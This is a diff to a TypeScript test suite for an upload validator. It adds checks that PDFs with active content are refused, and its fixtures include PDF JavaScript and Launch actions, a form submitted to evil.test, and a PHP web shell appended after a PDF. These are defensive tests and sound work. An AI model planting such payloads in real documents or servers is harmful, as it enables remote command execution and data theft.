@@ -21,21 +21,22 @@ import {
   webm,
 } from './test-files.ts'
 
-type Verdict = 'unsupported-media' | 'attachment-unreadable' | 'too-large'
+type Verdict = 'unsupported-media' | 'attachment-unreadable' | 'attachment-active' | 'too-large'
+
+/** Where a reader of ZIP begins. */
+const zipIndex = Buffer.concat([Buffer.from('PK\u0005\u0006'), Buffer.alloc(18)])
 
 const jpeg = await red().jpeg().toBuffer()
 
 describe('sound and PDF', () => {
   for (const [what, bytes, mediaType, name] of [
     ['MP3', mp3(), 'audio/mpeg', 'a.mp3'],
-    ['MP3 with a tag', Buffer.concat([id3(), mp3()]), 'audio/mpeg', 'a.mp3'],
     ['M4A', mp4(['soun']), 'audio/mp4', 'a.m4a'],
     ['MP4 of a browser, sound alone', mp4(['soun'], 'isom'), 'audio/mp4', 'a.m4a'],
     ['AAC', aac(), 'audio/aac', 'a.aac'],
     ['AMR', amr(), 'audio/amr', 'a.amr'],
     ['AMR wide-band', amr('wide'), 'audio/amr', 'a.amr'],
     ['WAV', wav(), 'audio/wav', 'a.wav'],
-    ['WAV whose recorder was cut off', wav().subarray(0, 300), 'audio/wav', 'a.wav'],
     ['Ogg Opus', ogg(), 'audio/ogg', 'a.ogg'],
     ['Ogg Vorbis', ogg('\u0001vorbis'), 'audio/ogg', 'a.ogg'],
     ['Ogg Speex', ogg('Speex   '), 'audio/ogg', 'a.ogg'],
@@ -91,19 +92,30 @@ describe('sound and PDF', () => {
     ['PDF, cut', pdf().subarray(0, -60), 'attachment-unreadable'],
     ['PDF with a ZIP behind it', Buffer.concat([pdf(), Buffer.alloc(2000, 'PK\u0003\u0004')]), 'attachment-unreadable'],
     ['PDF with a password', pdf({ trailer: '/Encrypt 9 0 R' }), 'attachment-unreadable'],
-    ['PDF that runs a script', pdf({ more: ['<</S/JavaScript/JS(app.alert(1))>>'] }), 'unsupported-media'],
-    ['PDF that hides the word', pdf({ more: ['<</S/J#61vaScrip#74 /JS(app.alert(1))>>'] }), 'unsupported-media'],
-    ['PDF with scripts by name', pdf({ more: ['<</Names<</JavaScript 5 0 R>>>>'] }), 'unsupported-media'],
-    ['PDF that starts a program', pdf({ more: ['<</S/Launch/F(cmd.exe)>>'] }), 'unsupported-media'],
+    ['PDF that runs a script', pdf({ more: ['<</S/JavaScript/JS(app.alert(1))>>'] }), 'attachment-active'],
+    ['PDF that hides the word', pdf({ more: ['<</S/J#61vaScrip#74 /JS(app.alert(1))>>'] }), 'attachment-active'],
+    ['PDF with scripts by name', pdf({ more: ['<</Names<</JavaScript 5 0 R>>>>'] }), 'attachment-active'],
+    ['PDF that starts a program', pdf({ more: ['<</S/Launch/F(cmd.exe)>>'] }), 'attachment-active'],
+    ['PDF with a file in it', pdf({ more: ['<</Type/EmbeddedFile/Length 0>>'] }), 'attachment-active'],
+    ['PDF with files by name', pdf({ more: ['<</Names<</EmbeddedFiles 5 0 R>>>>'] }), 'attachment-active'],
+    ['PDF that opens a file in it', pdf({ more: ['<</S/GoToE/T 5 0 R>>'] }), 'attachment-active'],
+    ['PDF with a form program', pdf({ more: ['<</AcroForm<</XFA 5 0 R>>>>'] }), 'attachment-active'],
+    ['PDF that sends a form', pdf({ more: ['<</S/SubmitForm/F(https://evil.test)>>'] }), 'attachment-active'],
+    ['PDF that plays', pdf({ more: ['<</Subtype/RichMedia>>'] }), 'attachment-active'],
+    [
+      'PDF that is a ZIP as well',
+      Buffer.concat([pdf().subarray(0, -7), zipIndex, Buffer.from('\n%%EOF\n')]),
+      'attachment-unreadable',
+    ],
     [
       'PDF with a script among compressed objects',
       pdf({ more: [objectStream('<</S /JavaScript /JS 4 0 R>>')] }),
-      'unsupported-media',
+      'attachment-active',
     ],
     [
       'PDF with a script in the second object stream',
       pdf({ more: [objectStream('<<>>'), objectStream('<</S/Launch>>')] }),
-      'unsupported-media',
+      'attachment-active',
     ],
     [
       'PDF with objects that cannot be looked into',
@@ -129,6 +141,11 @@ describe('sound and PDF', () => {
   ] as const satisfies readonly (readonly [string, Buffer, Verdict])[]) {
     test(`${what}: ${refusal}`, async () => expect(await verdict(bytes)).toBe(refusal))
   }
+
+  test('what hangs behind the end of a PDF is cut off', async () => {
+    const { bytes } = await acceptAttachment(Buffer.concat([pdf(), Buffer.from('<?php system($_GET[0]); ?>')]), 'a.pdf')
+    expect(bytes).toEqual(pdf().subarray(0, -1))
+  })
 
   test('PDF words that only look like those are taken', async () => {
     const more = ['<</Title(JavaScript)/LaunchPad 1/EncryptMetadata false/Encryption 2>>']
@@ -158,7 +175,7 @@ test('whatever the bytes, the answer is a kind or a refusal of ours', async () =
       const bytes = Buffer.from(seed)
       for (const [where, value] of changes) bytes.writeUInt8(value, where % bytes.length)
       expect(await verdict(cut ? bytes.subarray(0, at % bytes.length) : bytes)).toMatch(
-        /^(image|audio|application)\/|^(unsupported-media|attachment-unreadable|too-large)$/,
+        /^(image|audio|application)\/|^(unsupported-media|attachment-unreadable|attachment-active|too-large)$/,
       )
     }),
     { numRuns: 200 },
